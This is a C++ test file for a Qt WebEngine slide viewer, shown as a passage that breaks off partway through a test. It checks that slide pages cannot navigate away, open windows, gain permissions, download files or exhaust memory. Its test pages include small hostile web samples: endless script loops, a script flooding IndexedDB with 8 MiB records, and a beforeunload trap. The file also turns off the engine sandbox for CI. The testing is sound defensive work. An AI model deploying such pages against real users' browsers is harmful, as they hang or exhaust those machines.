// The web slide view and its host on the real Qt WebEngine: pages written into a temporary folder, shown in a
// window of their own, watched through what a viewer would see (the view's pixels, the page's own account of
// what reached it, windows that open).
#include "EventWait.h"
#include "LogCapture.h"
#include "SlidePage.h"
#include "SlideScheme.h"
#include "TestFiles.h"
#include "WBContainer.h"
#include "WebSlideView.h"

#include <QApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QMenu>
#include <QNetworkDatagram>
#include <QPointer>
#include <QProcess>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEngineProfile>
#include <QWebEngineView>

#include <gtest/gtest.h>

#include <csignal>
#include <memory>

namespace {

// Read when the first profile starts the engine. Its sandbox cannot run as root (the engine ends the
// process), and the suite runs as root in CI. Fake capture devices let a camera or microphone request get as
// far as the permission question.
const bool EngineSetUp = [] {
    qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    // Added to what the views' library sets, whichever of the two is made first.
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS",
            qgetenv("QTWEBENGINE_CHROMIUM_FLAGS") + " --use-fake-device-for-media-stream");
    return true;
}();

// An HTTP server on 127.0.0.1 for slides that never finish: /slide.html is served whole, /partial.html only
// its first bytes, and nothing else gets an answer (a picture of the slide that never comes).
class THangingServer : public QTcpServer
{
public:
    explicit THangingServer(QByteArray page) : FPage(std::move(page))
    {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = nextPendingConnection())
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray request = socket->peek(64);
                    if (request.startsWith("GET /slide.html "))
                        socket->write(Answer(FPage.size()) + FPage);
                    else if (request.startsWith("GET /partial.html "))
                        socket->write(Answer(100000) + "<!DOCTYPE html><html><head><title>coming</title>");
                    socket->readAll();
                });
        });
        listen(QHostAddress::LocalHost);
    }
    QUrl Url(const char* name = "slide.html") const
    {
        return QUrl(QStringLiteral("http://127.0.0.1:%1/%2").arg(QString::number(serverPort()), name));
    }

private:
    static QByteArray Answer(qint64 length)
    {
        return "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " + QByteArray::number(length) +
               "\r\n\r\n";
    }

    QByteArray FPage;
};

QByteArray Page(const QString& body, const QString& head = {})
{
    return QStringLiteral("<!DOCTYPE html><html><head><meta charset='utf-8'><title>start</title>%1</head>"
                          "<body style='margin:0'>%2</body></html>")
        .arg(head, body)
        .toUtf8();
}

// A page filled with one colour.
QByteArray ColourPage(const QString& colour)
{
    return Page({},
                QStringLiteral("<style>html, body { background: %1; height: 100%; }</style>").arg(colour));
}

QColor CentreColour(QWidget& widget)
{
    const QImage image = widget.grab().toImage();
    return image.pixelColor(image.width() / 2, image.height() / 2);
}

// An HTTP listener on a loopback address that notes the first line of every request and answers each with a
// page anyone may read (CORS open), so that whatever gets through would reach the slide too. Its files are
// served with their types; anything else gets "leaked".
class TListener : public QTcpServer
{
public:
    explicit TListener(const QHostAddress& address = QHostAddress::LocalHost)
    {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = nextPendingConnection()) {
                ++Connections;
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray head = socket->readAll();
                    const QByteArray line = head.left(head.indexOf('\r'));
                    Requests << QString::fromLatin1(line);
                    const QByteArray path = line.split(' ').value(1);
                    const auto found = Files.constFind(path);
                    const QByteArray type = found != Files.constEnd() ? found->first : "text/plain";
                    const QByteArray body = found != Files.constEnd() ? found->second : "leaked";
                    socket->write("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: " +
                                  type + "\r\nContent-Length: " + QByteArray::number(body.size()) +
                                  "\r\nConnection: close\r\n\r\n" + body);
                    socket->disconnectFromHost();
                });
            }
        });
        listen(address);
    }
    QString Origin() const
    {
        return QStringLiteral("http://%1:%2").arg(serverAddress().toString(), QString::number(serverPort()));
    }

    QHash<QByteArray, std::pair<QByteArray, QByteArray>> Files;
    QStringList Requests;
    int Connections = 0;
};

qint64 OwnResidentKiB()
{
    QFile status(QStringLiteral("/proc/self/status"));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray& line : status.readAll().split('\n'))
        if (line.startsWith("VmRSS:"))
            return line.mid(6).trimmed().split(' ').value(0).toLongLong();
    return -1;
}

class WebSlideViewTest : public ::testing::Test
{
protected:
    static void TearDownTestSuite()
    {
        delete Factory;
        Factory = nullptr;
    }

    void SetUp() override
    {
#if defined(__SANITIZE_THREAD__)
        GTEST_SKIP()
            << "the engine's threads synchronise in code ThreadSanitizer does not see (it is not "
               "instrumented), so every run reports races of its own; the views are main-thread only";
#endif
        ASSERT_TRUE(EngineSetUp);
        // One engine profile for the whole suite, as the program has one for all its views.
        if (Factory == nullptr)
            Factory = new TWebSlideViewFactory;
        FWindow.setWindowTitle(QStringLiteral("slides"));
        FWindow.setGeometry(0, 0, 320, 240);
        FWindow.show();
        // Every other window that comes on screen (a dialog, a menu) is noted and closed, so that a dialog's
        // own event loop cannot stall the test.
        FWatchdog.setInterval(20);
        QObject::connect(&FWatchdog, &QTimer::timeout, [this] {
            for (QWidget* widget : QApplication::topLevelWidgets())
                if (widget != &FWindow && widget->isVisible() &&
                    !widget->testAttribute(Qt::WA_DontShowOnScreen)) {
                    FOtherWindows << QString::fromLatin1(widget->metaObject()->className());
                    FOtherWindowPositions << widget->pos();
                    widget->close();
                }
        });
        FWatchdog.start();
    }

    void TearDown() override
    {
        FWatchdog.stop();
    }

    // A view in the window, filling it, counting its OnReady calls.
    std::unique_ptr<TWebSlideView> NewView()
    {
        std::unique_ptr<ISlideView> created = Factory->CreateView(&FWindow);
        std::unique_ptr<TWebSlideView> view(dynamic_cast<TWebSlideView*>(created.release()));
        view->Widget().setGeometry(FWindow.rect());
        view->Widget().show();
        view->OnReady = [this, raw = view.get()] { ++FReady[raw]; };
        // The next view may get the same address.
        QObject::connect(view.get(), &QObject::destroyed, [this, raw = view.get()] { FReady.remove(raw); });
        return view;
    }

    QUrl Url(const QString& name) const
    {
        return QUrl::fromLocalFile(FFolder.File(name));
    }
    QUrl Write(const QString& name, const QByteArray& content) const
    {
        return QUrl::fromLocalFile(FFolder.Write(name, content));
    }

    int Ready(const TWebSlideView& view) const
    {
        return FReady.value(&view);
    }
    bool WaitReady(const TWebSlideView& view, int count = 1, int timeoutMs = 10000)
    {
        return ServeEventsUntil([&] { return Ready(view) >= count; }, timeoutMs);
    }
    static bool WaitTitle(const QWebEngineView& view, const QString& title, int timeoutMs = 10000)
    {
        return ServeEventsUntil([&] { return view.title() == title; }, timeoutMs);
    }
    // Serves events for a while: long enough for a painted frame to come back from a page that would report.
    static void Serve(int ms)
    {
        ServeEventsUntil([] { return false; }, ms);
    }

    void FocusOn(QWidget& widget)
    {
        FWindow.activateWindow();
        ASSERT_TRUE(QTest::qWaitForWindowActive(&FWindow));
        widget.setFocus();
        ASSERT_TRUE(ServeEventsUntil([&] {
            return widget.focusProxy() != nullptr && QApplication::focusWidget() == widget.focusProxy();
        }));
    }

    // Loads a slide that fills IndexedDB (of the window the script part names w) with 8 MiB records as fast
    // as it can, then the next slide; the program's own memory must stay as it was.
    void FillStorage(const char* where)
    {
        const auto view = NewView();
        const qint64 before = OwnResidentKiB();
        view->Navigate(Write(
            "fill.html",
            Page(QStringLiteral("<script>%1 if (!w.indexedDB) document.title = 'no storage'; try {"
                                " var r = w.indexedDB.open('fill', 1); r.onerror = function () {"
                                " document.title = 'refused'; }; r.onupgradeneeded = function () {"
                                " r.result.createObjectStore('s'); }; r.onsuccess = function () {"
                                " var db = r.result; var n = 0; function put() { if (n >= 256) {"
                                " document.title = 'full ' + n; return; }"
                                " var t = db.transaction('s', 'readwrite'); var a = new Uint8Array(8 << 20);"
                                " a.fill(n & 255); t.objectStore('s').put(a, n); t.oncomplete = function () {"
                                " ++n; put(); }; t.onabort = t.onerror = function () {"
                                " document.title = 'refused at ' + n; }; } put(); }; } catch (e) { "
                                "document.title = 'refused'; }"
                                "</script>")
                     .arg(QString::fromUtf8(where)))));
        ASSERT_TRUE(ServeEventsUntil(
            [&] {
                const QString title = view->View().title();
                return title.startsWith("full") || title.startsWith("refused") || title == "no storage";
            },
            60000))
            << view->View().title().toStdString();
        const qint64 filled = OwnResidentKiB();
        const int ready = Ready(*view);
        view->Navigate(Write("next.html", ColourPage("blue")));
        ASSERT_TRUE(WaitReady(*view, ready + 1, 5000));
        Serve(1000);
        const qint64 after = OwnResidentKiB();
        EXPECT_LT(filled - before, 128 * 1024) << before << " KiB before, " << filled << " full";
        EXPECT_LT(after - before, 128 * 1024) << before << " KiB before, " << after << " after";
    }

    static TWebSlideViewFactory* Factory;
    TTempFolder FFolder;
    QWidget FWindow;
    QTimer FWatchdog;
    QStringList FOtherWindows;
    QList<QPoint> FOtherWindowPositions;
    QHash<const TWebSlideView*, int> FReady;
};

TWebSlideViewFactory* WebSlideViewTest::Factory = nullptr;

TEST_F(WebSlideViewTest, ReadyOnlyOnceTheNewPageIsOnScreen)
{
    // Two views stacked as in the slide window: the back one loads under the front one, and is raised once
    // it reports ready.
    std::unique_ptr<TWebSlideView> front = NewView();
    std::unique_ptr<TWebSlideView> back = NewView();
    front->Widget().raise();
    const QColor colours[] = {Qt::green, Qt::blue, Qt::red, Qt::white, Qt::green, Qt::blue};
    int slide = 0;
    for (const bool newPage : {false, true})
        for (const QColor& colour : colours) {
            SCOPED_TRACE(
                QStringLiteral("slide %1, %2").arg(QString::number(slide), colour.name()).toStdString());
            // What the back view holds at the moment it reports ready is what the swap shows.
            QColor shown;
            TWebSlideView& view = *back;
            view.OnReady = [&] {
                ++FReady[&view];
                shown = CentreColour(view.Widget());
            };
            const int ready = Ready(view);
            // A slide after one that failed starts on a new page, whose first frame takes longer to show.
            if (newPage)
                view.Navigate(Url("missing.html"));
            view.Navigate(Write(QStringLiteral("slide%1.html").arg(slide++), ColourPage(colour.name())));
            ASSERT_TRUE(WaitReady(view, ready + 1));
            EXPECT_EQ(shown, colour);
            view.Widget().raise();
            EXPECT_EQ(CentreColour(FWindow), colour);
            std::swap(front, back);
        }
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, OnlyTheLastNavigationReportsReady)
{
    const auto view = NewView();
    const QUrl first = Write("first.html", ColourPage("red"));
    const QUrl second = Write("second.html", ColourPage("blue"));

    SCOPED_TRACE("one navigation right after the other");
    view->Navigate(first);
    view->Navigate(second);
    ASSERT_TRUE(WaitReady(*view));
    Serve(300);
    EXPECT_EQ(Ready(*view), 1);
    EXPECT_EQ(view->Page().url().path(), second.path());
    EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::blue));

    SCOPED_TRACE("the next one as soon as the first has loaded, while its paint is still on the way");
    bool navigated = false;
    QObject::connect(&view->Page(), &QWebEnginePage::loadFinished, &view->Page(), [&](bool ok) {
        if (ok && !navigated && view->Page().url().path() == first.path()) {
            navigated = true;
            view->Navigate(second);
        }
    });
    view->Navigate(first);
    ASSERT_TRUE(WaitReady(*view, 2));
    Serve(300);
    EXPECT_TRUE(navigated);
    EXPECT_EQ(Ready(*view), 2);
    EXPECT_EQ(view->Page().url().path(), second.path());
}

TEST_F(WebSlideViewTest, AFailedLoadIsNeverReady)
{
    QTcpServer closed;
    ASSERT_TRUE(closed.listen(QHostAddress::LocalHost));
    const quint16 port = closed.serverPort();
    closed.close();
    struct TRow
    {
        const char* Case;
        QUrl Url;
    };
    for (const TRow& row :
         {TRow{"missing file", Url("missing.html")},
          TRow{"server that refuses", QUrl(QStringLiteral("http://127.0.0.1:%1/").arg(port))}}) {
        SCOPED_TRACE(row.Case);
        const auto view = NewView();
        view->Navigate(Write("shown.html", ColourPage("green")));
        ASSERT_TRUE(WaitReady(*view));

        // The view still holds the slide before, which would answer a paint probe at once.
        bool failed = false;
        QObject::connect(&view->View(), &QWebEngineView::loadFinished, [&](bool ok) { failed = !ok; });
        view->Navigate(row.Url);
        ASSERT_TRUE(ServeEventsUntil([&] { return failed; }));
        Serve(300);
        EXPECT_EQ(Ready(*view), 1);
    }
}

TEST_F(WebSlideViewTest, TheNextSlideIsReadyAfterABadOne)
{
    THangingServer hanging(Page("<img src='still-coming.png'>"));
    ASSERT_TRUE(hanging.isListening());
    struct TRow
    {
        const char* Case;
        QUrl Url;
        bool Spins; // its renderer never gets out of a script
    };
    for (const TRow& row :
         {TRow{"never finishes loading", hanging.Url(), false},
          TRow{"endless script loop", Write("loop.html", Page("<script>for (;;) {}</script>")), true},
          TRow{"endless loop after loading",
               Write("late-loop.html",
                     Page("<script>onload = function () { setTimeout(function () { for (;;) {} "
                          "}); };</script>")),
               false}}) {
        SCOPED_TRACE(row.Case);
        const auto view = NewView();
        // Navigate returns at once, and the event loop goes on while the page hangs (the bounds leave room
        // for a loaded machine; a wait on the page would never end).
        QElapsedTimer timer;
        timer.start();
        view->SetAccess({{}, {}, {QStringLiteral("http://127.0.0.1:%1").arg(hanging.serverPort())}});
        view->Navigate(row.Url);
        EXPECT_LT(timer.elapsed(), 1000);
        int ticks = 0;
        QTimer ticker;
        QObject::connect(&ticker, &QTimer::timeout, [&] { ++ticks; });
        ticker.start(10);
        Serve(500);
        EXPECT_GE(ticks, 10);
        EXPECT_EQ(Ready(*view), 0);

        const qint64 stuck = view->Page().renderProcessPid();
        view->Navigate(Write("good.html", ColourPage("blue")));
        ASSERT_TRUE(WaitReady(*view));
        EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::blue));
        if (row.Spins) {
            // The page that was given up goes once the event loop is back (a test serves no deferred deletion
            // on its own), and the engine ends its renderer, which would otherwise spin for good.
            ASSERT_GT(stuck, 0);
            QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
            EXPECT_TRUE(
                ServeEventsUntil([&] { return !QDir(QStringLiteral("/proc/%1").arg(stuck)).exists(); }));
        }
    }
}

TEST_F(WebSlideViewTest, BlackNotWhiteUntilTheSlidePaints)
{
    // A slide whose document has begun to arrive and has nothing to paint yet; the engine's own page beside
    // it shows what the view would show without the black underneath.
    THangingServer server(QByteArray{});
    ASSERT_TRUE(server.isListening());
    const auto view = NewView();
    EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::black));
    QWebEnginePage plainPage(&Factory->Profile());
    QWebEngineView plain(&FWindow);
    plain.setPage(&plainPage);
    plain.setGeometry(FWindow.rect());
    plain.show();
    plain.load(server.Url("partial.html"));
    view->SetAccess({{}, {}, {QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort())}});
    view->Navigate(server.Url("partial.html"));
    ASSERT_TRUE(ServeEventsUntil([&] { return CentreColour(plain) == QColor(Qt::white); }));
    ASSERT_TRUE(WaitTitle(view->View(), "coming"));
    EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::black));
    EXPECT_EQ(Ready(*view), 0);
}

TEST_F(WebSlideViewTest, ScriptDialogsOpenNothingAndThePageGoesOn)
{
    const auto view = NewView();
    view->Navigate(
        Write("dialogs.html", Page("<script>alert('a'); var c = confirm('b'); var p = prompt('c', 'd'); "
                                   "document.title = 'went on ' + c + ' ' + p;</script>")));
    ASSERT_TRUE(WaitReady(*view));
    EXPECT_EQ(view->View().title(), "went on false null");
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, APageThatAsksToStayDoesNotHoldTheNextSlide)
{
    const auto view = NewView();
    view->Navigate(
        Write("stay.html", Page("<script>addEventListener('beforeunload', function (e) {"
                                "  e.preventDefault(); e.returnValue = 'stay';"
                                "}); addEventListener('keydown', function () { document.title = 'key'; "
                                "});</script>")));
    ASSERT_TRUE(WaitReady(*view));
    // The engine asks its question only of a document that has seen the user: a key press (Escape does not
    // count).
    FocusOn(view->View());
    QTest::keyClick(FWindow.windowHandle(), Qt::Key_A);
    ASSERT_TRUE(WaitTitle(view->View(), "key"));

    view->Navigate(Write("next.html", ColourPage("blue")));
    ASSERT_TRUE(WaitReady(*view, 2));
    EXPECT_EQ(view->Page().url().path(), Url("next.html").path());
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, TheSlideCannotNavigateItsViewAway)
{
    // Each action runs once the slide has loaded; a view with the engine's own page beside it shows that the
    // action does navigate when nothing refuses it.
    struct TRow
    {
        const char* Case;
        const char* Body;
        const char* Action;
    };
    const TRow rows[] = {
        {"link click", "<a href='moved.html'>next</a>", "document.querySelector('a').click()"},
        {"script location change", "", "location.href = 'moved.html'"},
        // The program's scheme answers GET alone: a post would fail for the engine's own page too.
        {"form submission", "<form method='get' action='moved.html'><input name='x' value='1'></form>",
         "document.forms[0].submit()"},
        {"link into a new window", "<a href='moved.html' target='_blank'>next</a>",
         "document.querySelector('a').click()"},
    };
    Write("moved.html", Page({}, "<script>document.title = 'moved';</script>"));
    struct TCase // members go in reverse order: a page outlives its view
    {
        std::unique_ptr<QWebEnginePage> PlainPage;
        std::unique_ptr<QWebEngineView> Plain;
        std::unique_ptr<TWebSlideView> Slide;
    };
    std::vector<TCase> cases;
    int index = 0;
    for (const TRow& row : rows) {
        const QUrl url = Write(
            QStringLiteral("slide%1.html").arg(index++),
            Page(QString::fromUtf8(row.Body),
                 QStringLiteral("<script>addEventListener('load', function () { setTimeout(function () {"
                                " %1; document.title = 'acted'; }); });</script>")
                     .arg(QString::fromUtf8(row.Action))));
        TCase& item = cases.emplace_back();
        item.Slide = NewView();
        item.Slide->Navigate(url);
        item.Plain = std::make_unique<QWebEngineView>(&FWindow);
        item.PlainPage = std::make_unique<QWebEnginePage>(&Factory->Profile());
        item.Plain->setPage(item.PlainPage.get());
        item.Plain->setGeometry(FWindow.rect());
        item.Plain->show();
        item.Plain->load(TSlideScheme::UrlOf(url.toLocalFile(), item.Slide->SchemeHost()));
    }
    for (size_t i = 0; i < cases.size(); ++i) {
        SCOPED_TRACE(rows[i].Case);
        EXPECT_TRUE(WaitReady(*cases[i].Slide));
        EXPECT_TRUE(WaitTitle(cases[i].Slide->View(), "acted"));
        if (i < 3) {
            EXPECT_TRUE(WaitTitle(*cases[i].Plain, "moved"));
        }
    }
    Serve(300);
    for (size_t i = 0; i < cases.size(); ++i) {
        SCOPED_TRACE(rows[i].Case);
        EXPECT_EQ(cases[i].Slide->View().title(), "acted");
        EXPECT_EQ(cases[i].Slide->Page().url().fileName(), QStringLiteral("slide%1.html").arg(i));
        EXPECT_EQ(cases[i].Slide->Page().url().scheme(), TSlideScheme::Name);
    }
    for (TCase& item : cases) {
        item.Plain.reset();
        item.PlainPage.reset();
    }
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, NewWindowsAndPermissionsAreRefused)
{
    struct TRow
    {
        const char* Case;
        const char* Script; // sets the title to its outcome
        const char* Outcome;
        bool Asked; // the request reaches the page's permission question
    };
    // A slide is no secure context: the capture devices are not even there, and the rest is refused before
    // any question.
    const TRow rows[] = {
        {"window.open", "document.title = String(window.open('about:blank'));", "null", false},
        {"notifications", "Notification.requestPermission().then(function (p) { document.title = p; });",
         "denied", true},
        {"location",
         "navigator.geolocation.getCurrentPosition(function () { document.title = 'granted'; },"
         " function (e) { document.title = 'refused ' + e.code; });",
         "refused 1", false},
        {"camera",
         "if (!navigator.mediaDevices) document.title = 'no devices'; else "
         "navigator.mediaDevices.getUserMedia({video: true})"
         "  .then(function () { document.title = 'granted'; }, function (e) { document.title = e.name; });",
         "no devices", false},
        {"microphone",
         "if (!navigator.mediaDevices) document.title = 'no devices'; else "
         "navigator.mediaDevices.getUserMedia({audio: true})"
         "  .then(function () { document.title = 'granted'; }, function (e) { document.title = e.name; });",
         "no devices", false},
        {"clipboard",
         "document.title = navigator.clipboard ? 'clipboard' : 'no clipboard';"
         "try { document.execCommand('paste'); } catch (e) {}",
         "no clipboard", false},
    };
    for (const TRow& row : rows) {
        SCOPED_TRACE(row.Case);
        const auto view = NewView();
        int asked = 0;
        QObject::connect(&view->Page(), &QWebEnginePage::featurePermissionRequested, [&] { ++asked; });
        view->Navigate(Write("asks.html", Page({}, QStringLiteral("<script>%1</script>").arg(row.Script))));
        EXPECT_TRUE(WaitTitle(view->View(), QString::fromUtf8(row.Outcome)))
            << view->View().title().toStdString();
        EXPECT_EQ(asked > 0, row.Asked);
    }
    EXPECT_TRUE(FOtherWindows.isEmpty()) << FOtherWindows.join(' ').toStdString();
}

TEST_F(WebSlideViewTest, AClickOnAColourInputOpensNoDialog)
{
    // The engine's own page beside the slide shows the dialog the click would open.
    const QUrl url =
        Write("colour.html", Page("<input type='color' style='width: 100%; height: 100%; display: block'>",
                                  "<style>html, body { height: 100%; }</style>"));
    struct TRow
    {
        const char* Case;
        bool Slide;
        const char* Windows;
    };
    for (const TRow& row : {TRow{"engine's own page", false, "QColorDialog"}, TRow{"slide view", true, ""}}) {
        SCOPED_TRACE(row.Case);
        FOtherWindows.clear();
        QWebEnginePage plainPage(&Factory->Profile());
        QWebEngineView plain(&FWindow);
        std::unique_ptr<TWebSlideView> view;
        QWebEngineView* shown = &plain;
        if (row.Slide) {
            view = NewView();
            view->Navigate(url);
            ASSERT_TRUE(WaitReady(*view));
            shown = &view->View();
        } else {
            plain.setPage(&plainPage);
            plain.setGeometry(FWindow.rect());
            plain.show();
            bool loaded = false;
            QObject::connect(&plain, &QWebEngineView::loadFinished, [&](bool ok) { loaded = ok; });
            plain.load(url);
            ASSERT_TRUE(ServeEventsUntil([&] { return loaded; }));
        }
        ASSERT_TRUE(ServeEventsUntil([&] { return shown->focusProxy() != nullptr; }));
        QTest::mouseClick(shown->focusProxy(), Qt::LeftButton, {}, QPoint(160, 120));
        if (*row.Windows != 0)
            ASSERT_TRUE(ServeEventsUntil([&] { return !FOtherWindows.isEmpty(); }));
        else
            Serve(500);
        EXPECT_EQ(FOtherWindows.join(' ').toStdString(), row.Windows);
    }
}

TEST_F(WebSlideViewTest, ADownloadIsCancelled)
{
    const auto view = NewView();
    QList<QPointer<QWebEngineDownloadRequest>> downloads;
    QObject::connect(&Factory->Profile(), &QWebEngineProfile::downloadRequested, &FWindow,
                     [&](QWebEngineDownloadRequest* download) { downloads << download; });
    view->Navigate(Write("archive.zip", QByteArray(64, 'z')));
    ASSERT_TRUE(ServeEventsUntil([&] { return !downloads.isEmpty(); }));
    ASSERT_TRUE(ServeEventsUntil([&] {
        return !downloads[0] || downloads[0]->state() == QWebEngineDownloadRequest::DownloadCancelled;
    }));
    EXPECT_EQ(Ready(*view), 0);
}

TEST_F(WebSlideViewTest, AKilledRendererIsLoggedAndTheNextSlidePlays)
{
    const TLogCapture log;
    const auto view = NewView();
    int keys = 0;
    view->OnKeyDown = [&](int) { ++keys; };
    view->Navigate(Write("first.html", ColourPage("red")));
    ASSERT_TRUE(WaitReady(*view));
    const qint64 pid = view->Page().renderProcessPid();
    ASSERT_GT(pid, 0);
    ASSERT_EQ(::kill(pid_t(pid), SIGKILL), 0);
    ASSERT_TRUE(ServeEventsUntil([&] { return !log.Lines().isEmpty(); }));
    const QStringList lines = log.Lines();
    ASSERT_EQ(lines.size(), 1);
    EXPECT_TRUE(lines[0].startsWith("[1] TWebSlideView: The renderer of the slide file://"))
        << lines[0].toStdString();
    EXPECT_TRUE(lines[0].contains("first.html was killed")) << lines[0].toStdString();

    view->Navigate(
        Write("second.html",
              Page({}, "<style>html { background: blue; height: 100%; }</style><script>"
                       "addEventListener('keydown', function (e) { document.title = 'key ' + e.key; });"
                       "</script>")));
    ASSERT_TRUE(WaitReady(*view, 2));
    EXPECT_EQ(CentreColour(view->Widget()), QColor(Qt::blue));
    EXPECT_NE(view->Page().renderProcessPid(), pid);
    // The new renderer has a new render widget: no cursor over it, and keys still pass the host on their way
    // to the page.
    ASSERT_NE(view->View().focusProxy(), nullptr);
    EXPECT_EQ(view->View().focusProxy()->cursor().shape(), Qt::BlankCursor);
    FocusOn(view->View());
    QTest::keyClick(FWindow.windowHandle(), Qt::Key_A);
    EXPECT_TRUE(WaitTitle(view->View(), "key a"));
    EXPECT_EQ(keys, 1);
}

TEST_F(WebSlideViewTest, AKeyPressReachesTheHostFirstAndThePageToo)
{
    const auto view = NewView();
    QList<int> keys;
    QString titleAtKey;
    view->OnKeyDown = [&](int key) {
        keys << key;
        titleAtKey = view->View().title();
    };
    view->Navigate(
        Write("keys.html", Page({}, "<script>addEventListener('keydown', function (e) {"
                                    " document.title = document.title + ' ' + e.code; });</script>")));
    ASSERT_TRUE(WaitReady(*view));
    FocusOn(view->View());
    struct TRow
    {
        Qt::Key Key;
        const char* PageKey;
    };
    QString expected = QStringLiteral("start");
    for (const TRow& row : {TRow{Qt::Key_Escape, "Escape"}, TRow{Qt::Key_A, "KeyA"}, TRow{Qt::Key_F5, "F5"},
                            TRow{Qt::Key_Space, "Space"}}) {
        SCOPED_TRACE(row.PageKey);
        const QString before = view->View().title();
        keys.clear();
        QTest::keyClick(FWindow.windowHandle(), row.Key);
        expected += ' ' + QString::fromUtf8(row.PageKey);
        EXPECT_TRUE(WaitTitle(view->View(), expected));
        // Once for the press, nothing for the release; before the page had it.
        EXPECT_EQ(keys, QList<int>{row.Key});
        EXPECT_EQ(titleAtKey, before);
    }
    // A key held down repeats, and each repeat is a key press.
    keys.clear();
    QTest::keyPress(FWindow.windowHandle(), Qt::Key_B);
    QTest::keyEvent(QTest::Press, FWindow.windowHandle(), Qt::Key_B, Qt::NoModifier);
    QTest::keyRelease(FWindow.windowHandle(), Qt::Key_B);
    EXPECT_TRUE(WaitTitle(view->View(), expected + " KeyB KeyB"));
    EXPECT_EQ(keys, (QList<int>{Qt::Key_B, Qt::Key_B}));
}

TEST_F(WebSlideViewTest, ARightClickGivesOnlyTheProgramsMenu)
{
    enum class THost
    {
        SlideView,
        CustomWithoutMenu,
        CustomWithMenu,
        Neutral,
        HostDestroyed
    };
    struct TRow
    {
        const char* Case;
        THost Host;
        const char* Windows; // what shows up on screen
    };
    const QUrl url = Write("text.html", Page("<p style='font-size: 40px'>Lorem ipsum dolor sit amet</p>"));
    for (const TRow& row : {TRow{"slide view", THost::SlideView, ""},
                            TRow{"own menu without a menu", THost::CustomWithoutMenu, ""},
                            TRow{"own menu", THost::CustomWithMenu, "QMenu"},
                            TRow{"engine's menu with the neutral host", THost::Neutral, "QMenu"},
                            TRow{"engine's menu once the host is gone", THost::HostDestroyed, "QMenu"}}) {
        SCOPED_TRACE(row.Case);
        FOtherWindows.clear();
        FOtherWindowPositions.clear();
        const auto view = NewView();
        QList<QPoint> requests;
        view->OnContextMenu = [&](const QPoint& at) { requests << at; };
        std::unique_ptr<TNulWBContainer> host;
        QMenu menu;
        menu.addAction(QStringLiteral("Plein écran"));
        QWebEngineView& webView = view->View();
        if (row.Host != THost::SlideView) {
            // A plain view, hosted as the row says.
            const auto plain = new QWebEngineView(&webView);
            plain->setPage(new QWebEnginePage(&Factory->Profile(), plain));
            plain->setGeometry(webView.rect());
            plain->show();
            if (row.Host == THost::Neutral) {
                host = std::make_unique<TNulWBContainer>(plain);
            } else {
                auto custom = std::make_unique<TWBContainer>(plain);
                custom->SetUseCustomCtxMenu(true);
                custom->OnContextMenu = [&](const QPoint& at) { requests << at; };
                if (row.Host == THost::CustomWithMenu)
                    custom->PopupMenu = &menu;
                host = std::move(custom);
                if (row.Host == THost::HostDestroyed)
                    host.reset();
            }
            bool loaded = false;
            QObject::connect(plain->page(), &QWebEnginePage::loadFinished, [&](bool ok) { loaded = ok; });
            plain->load(url);
            ASSERT_TRUE(ServeEventsUntil([&] { return loaded; }));
            ASSERT_TRUE(ServeEventsUntil([&] { return plain->focusProxy() != nullptr; }));
            QTest::mouseClick(plain->focusProxy(), Qt::RightButton, {}, QPoint(40, 30));
        } else {
            view->Navigate(url);
            ASSERT_TRUE(WaitReady(*view));
            QTest::mouseClick(webView.focusProxy(), Qt::RightButton, {}, QPoint(40, 30));
        }
        const bool expectRequest = row.Host == THost::SlideView || row.Host == THost::CustomWithoutMenu ||
                                   row.Host == THost::CustomWithMenu;
        if (expectRequest) {
            ASSERT_TRUE(ServeEventsUntil([&] { return !requests.isEmpty(); }));
            EXPECT_EQ(requests, QList<QPoint>{webView.mapToGlobal(QPoint(40, 30))});
        }
        if (*row.Windows != 0)
            ASSERT_TRUE(ServeEventsUntil([&] { return !FOtherWindows.isEmpty(); }));
        else
            Serve(300);
        EXPECT_EQ(FOtherWindows.join(' ').toStdString(), row.Windows);
        if (row.Host == THost::CustomWithMenu) {
            EXPECT_EQ(FOtherWindowPositions.value(0), webView.mapToGlobal(QPoint(40, 30)));
        }
        if (!expectRequest) {
            EXPECT_TRUE(requests.isEmpty());
        }
        host.reset();
    }
}

TEST_F(WebSlideViewTest, HostSettingsReachTheDocuments)
{
    // A document larger than the view, reporting the width its scroll bar takes, its selection rule and the
    // background its body gets.
    const QUrl url =
        Write("tall.html",
              Page("<div style='height: 2000px'>tall</div><script>addEventListener('load', function () {"
                   " var s = getComputedStyle(document.body); document.title = (innerWidth - "
                   "document.documentElement.clientWidth) + ' ' + s.userSelect + ' ' + s.backgroundColor; "
                   "});</script>"));
    struct TRow
    {
        const char* Case;
        std::function<void(TWBContainer&)> Configure;
        const char* Title;
    };
    const TRow rows[] = {
        {"defaults", [](TWBContainer&) {}, "15 auto rgba(0, 0, 0, 0)"},
        {"no scroll bars", [](TWBContainer& host) { host.SetShowScrollBars(false); },
         "0 auto rgba(0, 0, 0, 0)"},
        {"no text selection", [](TWBContainer& host) { host.SetAllowTextSelection(false); },
         "15 none rgba(0, 0, 0, 0)"},
